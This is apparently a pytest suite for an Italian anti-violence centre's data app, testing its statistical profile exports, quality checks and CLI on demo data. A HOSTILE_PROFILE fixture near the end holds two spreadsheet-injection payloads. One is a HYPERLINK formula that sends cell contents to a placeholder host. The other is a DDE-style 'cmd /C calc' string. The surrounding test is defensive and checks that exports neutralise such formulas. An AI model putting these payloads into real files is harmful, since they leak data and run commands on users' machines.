"""Profile exports through the release model, read back with other libraries than the ones that wrote
them, and the data-quality check: findings come and go with the data, the command line says the same."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from app import demo
from app.crypto.keyslots import KdfParams
from app.models.cases import Case, Intake
from app.reports import package, profile_files, profiles, stated
from app.reports.periods import parse_period
from app.reports.tables import AggregateTable, is_stated
from app.services import accounts, cases, exports, releases, reports, structure
from app.services.errors import UserError, ValidationError
from app.services.structure import CentreStructure, DeskStructure
from app.services.workspace import Workspace
from tests.foundation_fixtures import run_cli

FAST = KdfParams(19456, 2, 1)
PASSWORD = "lanterna torrente civetta brina"
YEAR = "2025"


@pytest.fixture(scope="module")
def demo_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("profiles") / "data"
    ws, _ = Workspace.initialise(
        folder, centre_name="Aiuto Donna", centre_code="BG", desk_name="Bergamo", username="anna",
        full_name="Anna", password=PASSWORD, kdf=FAST,
    )  # fmt: skip
    demo.generate(ws, cases=700, seed=5, years=2, today=date(2026, 9, 30))
    bergamo = reports.desk_ids_by_name(ws, ["Bergamo"])[0]
    accounts.add_operator(ws, "olga", "Olga", "operatrice", bergamo, PASSWORD, FAST)
    ws.close()
    return folder


@pytest.fixture
def folder(demo_folder: Path, tmp_path: Path) -> Path:
    """A private copy per test: releases made by one test must not freeze another's."""
    copy = tmp_path / "data"
    shutil.copytree(demo_folder, copy)
    (copy / "ascolto.lock").unlink(missing_ok=True)
    return copy


@pytest.fixture
def ws(folder: Path) -> Iterator[Workspace]:
    workspace = Workspace.open(folder)
    workspace.unlock("anna", PASSWORD)
    yield workspace
    workspace.close()


def _package_tables(
    ws: Workspace, period: str, tmp_path: Path, desks: list[int] | None = None
) -> list[AggregateTable]:
    """The tables of the signed package of the same release (served again, frozen), verified: the
    protected ones and the centre's stated structure it carries."""
    result = releases.export(
        ws, reports.prepare(ws, parse_period(period), desks), tmp_path / f"package-{desks}"
    )
    released = package.load_package(result.package_path)
    return [*released.tables, *stated.tables(released.structure, released.desks)]


def _expected(profile: profiles.Profile, tables: list[AggregateTable]) -> list[AggregateTable]:
    return profiles.apply(profile, tables)


def _printed(table: AggregateTable, k: int = 5) -> list[list[str]]:
    """The rows as the printed CSV writes them: plain numbers (2629, never 2.629), markers, `≥ n`."""
    _header, rows = profile_files.lines(table, "it")
    return [[name, *(profile_files.plain(v, f, table.unit, k) for v, f in values)] for name, values in rows]


@pytest.mark.parametrize("name", ["istat-utenza", "istat-centri", "lombardia"])
def test_xlsx_read_back_holds_exactly_the_package_values(ws: Workspace, tmp_path: Path, name: str) -> None:
    from openpyxl import load_workbook

    profile = profiles.load(name)
    result = exports.export_profile(ws, profile, parse_period(YEAR), None, "xlsx", tmp_path / "out.xlsx")
    expected = _expected(profile, _package_tables(ws, YEAR, tmp_path))
    book = load_workbook(result.path, read_only=True)
    assert book.sheetnames[1:] == [t.id for t in expected]
    lower_bounds = 0
    for table in expected:
        sheet = list(book[table.id].iter_rows(values_only=True))
        legend = "Struttura del centro in vigore al 31/12/2025" if is_stated(table.unit) else "<5"
        assert (
            sheet[0][0] == table.title and sheet[2][0] == "Periodo: anno 2025" and legend in str(sheet[3][0])
        )
        grid = sheet[7:]
        want = _printed(table)
        assert len(grid) == len(want)
        for got_row, want_row in zip(grid, want, strict=True):
            assert got_row[0] == want_row[0]
            for got, printed in zip(got_row[1:], want_row[1:], strict=True):
                # a published exact value is a number in the sheet; hidden and lower bounds are text
                text = got if isinstance(got, str) else profile_files.plain(got, False, table.unit, 5)
                assert text == printed, (table.id, want_row[0])
                lower_bounds += isinstance(got, str) and got.startswith("≥")
    assert name != "istat-utenza" or lower_bounds  # its coarser categories do sum hidden parts


def test_csv_parsed_with_the_csv_module_and_json_hold_the_same_values(ws: Workspace, tmp_path: Path) -> None:
    from pypdf import PdfReader

    profile = profiles.load("istat-utenza")
    period = parse_period(YEAR)
    out_csv = exports.export_profile(ws, profile, period, None, "csv", tmp_path / "istat.csv")
    out_json = exports.export_profile(ws, profile, period, None, "json", tmp_path / "istat.json")
    assert out_json.first_time is False  # the same release served again
    expected = _expected(profile, _package_tables(ws, YEAR, tmp_path))

    raw = out_csv.path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    for table in expected:
        start = rows.index([table.title])
        want = _printed(table)
        assert rows[start + 5 : start + 5 + len(want)] == want, table.id
        assert rows[start + 5 + len(want)] == []  # nothing under the grid: "Totale" only over a sum

    document = json.loads(out_json.path.read_bytes())
    assert document["profile"]["id"] == "istat-utenza" and document["period"]["code"] == "2025"
    assert [t["id"] for t in document["tables"]] == [t.id for t in expected]
    for got, table in zip(document["tables"], expected, strict=True):
        assert got["cells"] == table.cells and got["total"] == table.total
        assert got["lower_bound"] == table.lower_bound
    assert document["pending"] == []  # every ISTAT variable of the user survey is now produced
    assert {"aiuto_precedente", "autori_numero", "esito_denuncia"} <= {t["id"] for t in document["tables"]}

    preview = "\n".join(page.extract_text() for page in PdfReader(out_csv.preview_path).pages)
    assert "Indagine sull’utenza" in preview and "≥" in preview


def test_the_release_rules_hold_for_profiles(ws: Workspace, tmp_path: Path) -> None:
    profile = profiles.load("istat-utenza")
    with pytest.raises(ValidationError, match="made for these periods"):
        exports.export_profile(ws, profile, parse_period("2025-H1"), None, "csv", tmp_path / "h1.csv")
    with pytest.raises(UserError, match="has not ended"):
        exports.export_profile(ws, profile, parse_period("2026"), None, "csv", tmp_path / "now.csv")
    assert not (tmp_path / "h1.csv").exists() and not (tmp_path / "now.csv").exists()  # nothing written


def test_the_funder_profile_puts_each_desk_in_a_column(ws: Workspace, tmp_path: Path) -> None:
    profile = profiles.load("finanziatore")
    desks = reports.desk_ids_by_name(ws, ["Bergamo", "Treviglio"])
    result = exports.export_profile(ws, profile, parse_period(YEAR), desks, "json", tmp_path / "f.json")
    document = json.loads(result.path.read_bytes())
    women = document["tables"][0]
    assert [c["label"] for c in women["cols"]] == ["Bergamo", "Treviglio"]  # the total: row_totals
    bergamo = _expected(profile, _package_tables(ws, YEAR, tmp_path, desks[:1]))[0]
    assert [row[0] for row in women["cells"]] == [row[0] for row in bergamo.cells]
    # the whole centre beside the desks released alone is fine (the desk lattice); the two desks as one
    # set overlap each of them: refused, as any subtraction would be
    exports.export_profile(
        ws, profiles.load("istat-utenza"), parse_period(YEAR), None, "csv", tmp_path / "x.csv"
    )
    with pytest.raises(UserError, match="subtracted"):
        releases.export(ws, reports.prepare(ws, parse_period(YEAR), desks), tmp_path / "both.json")


def test_a_profile_file_with_an_unknown_code_is_refused(tmp_path: Path) -> None:
    text = profiles.profiles_dir().joinpath("istat-utenza.toml").read_text(encoding="utf-8")
    broken = tmp_path / "mia.toml"
    broken.write_text(text.replace('from = ["SI_UNA", "SI_PIU_VOLTE"]', 'from = ["SI_UNA", "SI_SPESSO"]'))
    with pytest.raises(UserError) as info:
        exports.load_profile(broken)
    line = broken.read_text().splitlines().index('SI = { label = "Sì", from = ["SI_UNA", "SI_SPESSO"] }') + 1
    assert f"mia.toml:{line} tables[" in str(info.value) and "'SI_SPESSO'" in str(info.value)


def _case(ws: Workspace) -> tuple[int, str]:
    with ws.transaction(write=False) as session:
        case = session.scalars(
            select(Case)
            .where(Case.closed_on.is_(None), Case.opened_on.between(date(2025, 3, 1), date(2025, 11, 30)))
            .order_by(Case.id)
        ).first()
        assert case is not None
        return case.id, case.code


def test_quality_findings_come_and_go_with_the_data(ws: Workspace) -> None:
    profile = profiles.load("istat-utenza")
    period = parse_period(YEAR)
    case_id, code = _case(ws)
    before = exports.quality(ws, profile, period)
    assert code not in before.case_codes
    assert {r.table for r in before.rates} >= {"eta", "cittadinanza", "titolo_studio"}
    assert all(r.percent is None or 0 <= r.percent <= 100 for r in before.rates)

    with ws.transaction() as session:  # as an old import or a bug might have left it
        case = session.get_one(Case, case_id)
        opened = case.opened_on
        case.closed_on = date(opened.year, 1, 1) if opened.month > 1 else opened
        case.birth_year, case.children_count = 2009, 4
        forms = {
            i.id: i.violence_forms for i in session.scalars(select(Intake).where(Intake.case_id == case_id))
        }
        for intake in session.scalars(select(Intake).where(Intake.case_id == case_id)):
            intake.violence_forms = ""
    assert forms  # the case has an intake
    found = exports.quality(ws, profile, period)
    checks = {f.check for f in found.findings if code in f.case_codes}
    assert checks == set(exports.CHECKS)  # the services she kept receiving now fall after the closure

    with ws.transaction() as session:
        case = session.get_one(Case, case_id)
        case.closed_on, case.birth_year, case.children_count = None, 1985, 1
        for intake in session.scalars(select(Intake).where(Intake.case_id == case_id)):
            intake.violence_forms = forms[intake.id]
    assert code not in exports.quality(ws, profile, period).case_codes


def test_the_command_line_exports_a_profile_and_prints_the_quality_summary(
    folder: Path, tmp_path: Path
) -> None:
    out = tmp_path / "lombardia.csv"
    done = run_cli(
        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025-H2",
         "--profile", "lombardia", "--out", str(out), "--lang", "it"],
        tmp_path, PASSWORD,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0] == [profiles.load("lombardia").title]
    assert out.with_suffix(".pdf").exists()
    long = tmp_path / "lombardia-long.csv"
    done = run_cli(
        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025-H2",
         "--profile", "lombardia", "--out", str(long), "--layout", "long"],
        tmp_path, PASSWORD,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    header = next(csv.reader(io.StringIO(long.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert header == list(profile_files.LONG_COLUMNS)
    package_only = run_cli(
        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025-H2",
         "--layout", "long", "--out", str(tmp_path / "p.json")],
        tmp_path, PASSWORD,
    )  # fmt: skip
    assert package_only.returncode == 1 and "--layout" in package_only.stderr  # the package has one layout
    quality = run_cli(
        ["quality", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025"],
        tmp_path, PASSWORD,
    )  # fmt: skip
    assert quality.returncode == 0, quality.stderr
    assert "%" in quality.stdout and "istat-utenza" in quality.stdout
    refused = run_cli(
        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025",
         "--profile", str(tmp_path / "nope.toml"), "--out", str(tmp_path / "x.csv")],
        tmp_path, PASSWORD,
    )  # fmt: skip
    assert refused.returncode == 1 and "nope.toml" in refused.stderr


def test_the_package_records_missing_rates_computed_on_published_values(
    ws: Workspace, tmp_path: Path
) -> None:
    result = releases.export(ws, reports.prepare(ws, parse_period(YEAR)), tmp_path / "p.json")
    loaded = package.load_package(result.package_path)
    assert loaded.missing_rates
    for table in loaded.tables:
        rate = loaded.missing_rates.get(table.id)
        if table.unit != "women" or "ND" not in table.rows:
            assert rate is None
            continue
        nd, total = table.row_totals[table.rows.index("ND")], table.total
        assert total  # a year of a centre
        if nd is None:
            assert rate == {"below_percent": -(-500 // int(total))}
        else:
            assert rate == {"percent": round(100 * nd / total)}
    rates = exports.quality(ws, profiles.load("istat-utenza"), parse_period(YEAR)).rates
    eta = next(r for r in rates if r.table == "eta")
    assert {"percent": eta.percent} == loaded.missing_rates[eta.source] or eta.below_percent is not None


def test_the_cases_found_are_listed_only_where_she_may_see_them(ws: Workspace, folder: Path) -> None:
    report = exports.quality(ws, profiles.load("istat-utenza"), parse_period(YEAR))
    case_id, code = _case(ws)
    with ws.transaction() as session:
        session.get_one(Case, case_id).closed_on = date(2025, 1, 1)
    found = exports.quality(ws, profiles.load("istat-utenza"), parse_period(YEAR)).case_codes
    assert code in found and set(report.case_codes) <= set(found)
    listed = cases.search_cases(ws, statuses=None, codes=found, limit=500)
    assert {c.code for c in listed.items} == set(found)  # the coordinator: every one
    ws.close()
    olga = Workspace.open(folder)
    try:
        olga.unlock("olga", PASSWORD)
        hers = cases.search_cases(olga, statuses=None, codes=found, limit=500).items
        assert {c.help_desk_name for c in hers} <= {"Bergamo"}
        assert len(hers) < len(found)
    finally:
        olga.close()


def _sheet(book: Any, name: str) -> dict[str, tuple[Any, ...]]:
    """A table's sheet as {row label: values}, after its five lines of heading and a blank one."""
    return {row[0]: row[1:] for row in list(book[name].iter_rows(values_only=True))[7:]}


def test_the_centres_profile_carries_the_structure_in_force_at_the_end_of_the_year(
    ws: Workspace, tmp_path: Path
) -> None:
    from openpyxl import load_workbook
    from pypdf import PdfReader

    bergamo, treviglio = reports.desk_ids_by_name(ws, ["Bergamo", "Treviglio"])
    structure.set_desk_structure(
        ws, bergamo, date(2025, 3, 1), DeskStructure(("LUN", "MAR", "GIO"), 18, ("IT", "EN"))
    )
    structure.set_desk_structure(
        ws, bergamo, date(2026, 2, 1), DeskStructure(("LUN",), 4, ("IT",))
    )  # next year's
    structure.set_centre_structure(
        ws, date(2025, 1, 1), CentreStructure("SI", {"PSICOLOGA": 2}, {"PSICOLOGA": 1, "AVVOCATA": 3}, "NO")
    )
    profile = profiles.load("istat-centri")
    assert not profile.pending
    period = parse_period(YEAR)
    rates = {r.table: r.percent for r in exports.quality(ws, profile, period).rates}
    desks = len(accounts.list_help_desks(ws))
    assert rates["sportelli_ore"] == round(100 * (desks - 1) / desks)  # the desks with no hours entered
    assert rates["personale"] == 80 and rates["adesione_1522"] == 0  # 8 of 10 professions not entered
    result = exports.export_profile(ws, profile, period, None, "xlsx", tmp_path / "centri.xlsx")
    book = load_workbook(result.path, read_only=True)
    hours = _sheet(book, "sportelli_ore")
    assert hours["Bergamo"] == (18,) and hours["Treviglio"] == ("ND",)  # not entered: said so
    assert hours["Totale"] == ("≥ 18",)  # a sum with desks not entered is a lower bound
    assert _sheet(book, "sportelli_giorni")["Bergamo"] == (3,)
    assert _sheet(book, "giorni_apertura")["Giovedì"] == (1,)
    assert _sheet(book, "lingue")["Inglese"] == (1,)
    staff = _sheet(book, "personale")
    assert staff["Psicologa"] == (2, 1, 3) and staff["Avvocata"] == ("ND", 3, "≥ 3")
    assert _sheet(book, "adesione_1522")["Sì"] == (1,) and _sheet(book, "reperibilita_h24")["No"] == (1,)
    activity = _sheet(book, "donne")

    # completed after the release: served again with the structure of now, the figures as released
    structure.set_desk_structure(ws, treviglio, date(2025, 6, 1), DeskStructure(("VEN",), 6, ()))
    again = exports.export_profile(ws, profile, period, None, "xlsx", tmp_path / "again.xlsx")
    assert again.first_time is False
    book = load_workbook(again.path, read_only=True)
    hours = _sheet(book, "sportelli_ore")
    assert hours["Treviglio"] == (6,) and hours["Totale"] == (24 if len(hours) == 3 else "≥ 24",)
    assert _sheet(book, "donne") == activity
    released = package.load_package(_release_bytes(ws, tmp_path))
    assert released.structure is not None and released.structure["on"] == "2025-12-31"
    assert {d["name"]: d["hours_week"] for d in released.structure["desks"]}["Treviglio"] == 6
    preview = " ".join(" ".join(page.extract_text() for page in PdfReader(again.preview_path).pages).split())
    assert "Struttura del centro in vigore al 31/12/2025" in preview and "Non ancora prodotte" not in preview


def _release_bytes(ws: Workspace, tmp_path: Path) -> bytes:
    result = releases.export(ws, reports.prepare(ws, parse_period(YEAR)), tmp_path / "whole")
    return result.package_path.read_bytes()


def test_a_package_made_before_the_structure_travelled_lays_it_out_as_not_entered() -> None:
    tables = {t.id: t for t in stated.tables(None, ["Bergamo", "Treviglio"])}
    assert tables["structure_desk_hours"].row_labels == {"DESK_1": "Bergamo", "DESK_2": "Treviglio"}
    assert (
        tables["structure_desk_hours"].cells == [[None], [None]]
        and tables["structure_desk_hours"].total is None
    )
    assert tables["structure_1522"].cells == [[0], [0], [1]]  # ND
    assert tables["structure_weekdays"].cells[-1] == [2]  # both desks: days not entered
    assert profile_files.shown(None, False, tables["structure_staff"].unit, 5) == "ND"


def test_the_structure_tables_count_each_desk_once() -> None:
    statement = {
        "centre": {"adheres_1522": "SI", "available_h24": "ND", "staff_paid": {}, "staff_volunteer": {}},
        "desks": [
            {"name": "Bergamo", "days": ["LUN", "GIO"], "hours_week": 10, "languages": ["IT"]},
            {"name": "Dalmine", "days": ["LUN"], "hours_week": None, "languages": []},
        ],
    }
    tables = {t.id: t for t in stated.tables(statement, ["Bergamo", "Dalmine"])}
    weekdays = tables["structure_weekdays"]
    assert weekdays.cells[0] == [2] and weekdays.col_totals == [2] and weekdays.total == 2  # not 3
    days = tables["structure_desk_days"]
    assert days.cells == [[2], [1]] and days.col_totals == [2] and days.total == 2  # Monday and Thursday
    hours = tables["structure_desk_hours"]
    assert hours.total == 10 and hours.total_lower_bound and hours.col_lower_bound == [True]
    assert stated.not_entered_percent(tables["structure_languages"]) == 50


HOSTILE_PROFILE = """[profile]
format = 1
id = "ostile"
version = 1
title = '=HYPERLINK("http://x.example/?d="&A2,"Apri")'
target = "+Finanziatore"
periods = ["year"]

[[tables]]
id = "donne"
title = "@SUM(1+1)*cmd|' /C calc'!A0"
source = "flow"
[tables.rows]
RECEIVED = { label = "-2+3", from = ["RECEIVED"] }
ACTIVE = { label = "=1+1", from = ["ACTIVE"] }
"""


def test_text_that_a_spreadsheet_would_run_is_written_as_text(ws: Workspace, tmp_path: Path) -> None:
    """A title or label beginning with = + - @ (or a tab, a carriage return) is a formula to Excel and
    LibreOffice: in the XLSX it is a string cell, in the CSV it starts with an apostrophe."""
    from openpyxl import load_workbook

    source = tmp_path / "ostile.toml"
    source.write_text(HOSTILE_PROFILE, encoding="utf-8")
    profile = exports.load_profile(source)
    period = parse_period(YEAR)
    hostile = {profile.title, profile.tables[0].title, "-2+3", "=1+1"}
    for layout in profile_files.LAYOUTS:
        result = exports.export_profile(
            ws, profile, period, None, "xlsx", tmp_path / f"{layout}.xlsx", layout=layout
        )
        book = load_workbook(result.path)  # not read-only: the cell types are read as written
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        assert cell.data_type == "s", (layout, sheet.title, cell.coordinate, cell.value)
                        seen.add(cell.value)
        assert hostile <= seen, layout
        written = exports.export_profile(
            ws, profile, period, None, "csv", tmp_path / f"{layout}.csv", layout=layout
        )
        text = written.path.read_text("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
        in_csv = hostile if layout == "printed" else hostile - {profile.title}  # no cover in the long CSV
        assert {"'" + text for text in in_csv} <= set(cells), layout


@pytest.mark.parametrize("text", ["=A1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    assert profile_files.csv_text(text) == "'" + text
    assert profile_files.csv_text("a" + text) == "a" + text


# --- files other software reads --------------------------------------------------------------------------
SCHEMA = Path(__file__).resolve().parents[1] / "resources" / "profile-export.schema.json"
CODE = re.compile(r"[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+|[A-Z]{4,}[0-9]*")
"""What an internal code looks like: upper case with underscores (`WOMEN_CONTACTED`) or a long word in
capitals (`RECEIVED`); two- or three-letter codes (`ND`, `SI`, `LUN`) read as words and are left out."""


def _internal_codes(profile: profiles.Profile) -> set[str]:
    """Every row and column code of the tables this profile lays out (and its own categories)."""
    known = profiles.catalogue()
    codes: set[str] = set()
    for spec in profile.tables:
        codes |= {*known[spec.source].rows, *known[spec.source].cols}
        codes |= {c.code for c in (*(spec.rows or ()), *(spec.cols or ()))}
    return {c for c in codes if CODE.fullmatch(c)}


def _codes_in(texts: list[str], codes: set[str]) -> set[str]:
    return {word for text in texts for word in re.findall(r"[A-Za-z0-9_]+", text) if word in codes}


@pytest.mark.parametrize("name", ["istat-utenza", "istat-centri", "lombardia", "finanziatore"])
def test_no_output_shows_an_internal_code_as_a_label(ws: Workspace, tmp_path: Path, name: str) -> None:
    """Printed XLSX and CSV, the PDF preview, the long layout's labels and the JSON labels: a person
    reads "Donne che hanno contattato", never `WOMEN_CONTACTED`. The packages whose SHA-256 the file
    lists are beside it, and verify."""
    from openpyxl import load_workbook
    from pypdf import PdfReader

    profile = profiles.load(name)
    period = parse_period(YEAR)
    codes = _internal_codes(profile) - {"ASCOLTO"}  # a service's code, and the app's name on the cover
    assert name != "istat-centri" or "WOMEN_CONTACTED" in codes
    shown: dict[str, list[str]] = {}
    for fmt, layout in [("xlsx", "printed"), ("xlsx", "long"), ("csv", "printed"), ("csv", "long")]:
        out = tmp_path / f"{layout}.{fmt}"
        result = exports.export_profile(ws, profile, period, None, fmt, out, layout=layout)
        if fmt == "xlsx":
            book = load_workbook(result.path, read_only=True)
            sheets = [[list(r) for r in sheet.iter_rows(values_only=True)] for sheet in book.worksheets]
        else:
            sheets = [list(csv.reader(io.StringIO(result.path.read_text("utf-8-sig")), delimiter=";"))]
        if layout == "long":  # the code columns hold codes by design; their labels must not
            header = list(sheets[0][0])
            counted = {frozenset(row[header.index("sportelli")].split(", ")) for row in sheets[0][1:]}
            names = {d.name for d in accounts.list_help_desks(ws)}
            each = {frozenset({n}) for n in names} if profile.by_desk else set()
            assert counted == each | {frozenset(names)}  # a desk's own column, or all of them
            labels = [header.index("etichetta_riga"), header.index("etichetta_colonna")]
            sheets[0] = [[row[i] for i in labels] for row in sheets[0][1:]]
        rows = [row for sheet in sheets for row in sheet]
        shown[f"{layout} {fmt}"] = [str(v) for row in rows for v in row if v is not None]
    result = exports.export_profile(ws, profile, period, None, "json", tmp_path / "out.json")
    document = json.loads(result.path.read_bytes())
    shown["json"] = [c["label"] for t in document["tables"] for c in (*t["rows"], *t["cols"])]
    shown["pdf"] = [page.extract_text() for page in PdfReader(result.preview_path).pages]
    for where, texts in shown.items():
        assert not _codes_in(texts, codes), (name, where, sorted(_codes_in(texts, codes))[:10])
    for text in shown["pdf"]:
        assert not re.search(r"(?<![\w<])k(?![\w])", text), "k is not a word for people"
    for ref in document["release_packages"]:
        beside = result.path.with_name(ref["file"])
        assert hashlib.sha256(beside.read_bytes()).hexdigest() == ref["sha256"]
        assert package.load_package(beside.read_bytes()).desks == ref["desks"]
    assert len(document["release_packages"]) == (len(document["desks"]) if profile.by_desk else 1)
    jsonschema = pytest.importorskip("jsonschema")
    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text(encoding="utf-8"))).validate(document)


def test_the_long_layout_reads_in_pandas_and_openpyxl_with_the_values_of_the_json(
    ws: Workspace, tmp_path: Path
) -> None:
    """One row per published value, the header on the first line, numbers numeric (hours plain: 2629,
    never 2.629), hidden values empty with their sign in a column of their own."""
    pd = pytest.importorskip("pandas")
    profile = profiles.load("lombardia")
    period = parse_period(YEAR)
    long_csv = exports.export_profile(ws, profile, period, None, "csv", tmp_path / "l.csv", layout="long")
    long_xlsx = exports.export_profile(ws, profile, period, None, "xlsx", tmp_path / "l.xlsx", layout="long")
    document = json.loads(
        exports.export_profile(ws, profile, period, None, "json", tmp_path / "l.json").path.read_bytes()
    )

    frame = pd.read_csv(long_csv.path, sep=";", decimal=",", keep_default_na=False, na_values=[""])
    assert list(frame.columns) == list(profile_files.LONG_COLUMNS)
    assert pd.api.types.is_numeric_dtype(frame["valore"])
    sheet = pd.read_excel(long_xlsx.path, keep_default_na=False, na_values=[""])  # the first sheet
    assert list(sheet.columns) == list(profile_files.LONG_COLUMNS)
    assert pd.api.types.is_numeric_dtype(sheet["valore"])
    assert frame["valore"].fillna(-1).tolist() == sheet["valore"].fillna(-1).tolist()
    assert set(frame["segno"].fillna("")) <= {"", "<5", "n.p.", "≥"}
    assert (frame["periodo"].astype(str) == YEAR).all() and (frame["dal"] == "2025-01-01").all()

    expected = {}
    for t in document["tables"]:
        for i, row in enumerate(t["rows"]):
            for j, col in enumerate(t["cols"]):
                expected[t["id"], row["code"], col["code"]] = (t["cells"][i][j], t["lower_bound"][i][j])
        expected[t["id"], "_total", "_total" if len(t["cols"]) > 1 else t["cols"][0]["code"]] = (
            t["total"], t["total_lower_bound"],
        )  # fmt: skip
    got = {
        (r.tabella, r.riga, r.colonna): (None if pd.isna(r.valore) else r.valore, r.segno)
        for r in frame.fillna({"segno": ""}).itertuples()
    }
    for key, (value, lower) in expected.items():
        number, sign = got[key]
        assert number == value, key
        assert sign == ("≥" if lower else "") if value is not None else sign in ("<5", "n.p."), key
    hours = frame[frame["tabella"] == "ore"]
    assert hours["valore"].max() > 999  # plain numbers: a thousand hours is not read as 1.0
    assert document["tables"][0]["rows"][0]["label"] in set(frame["etichetta_riga"])
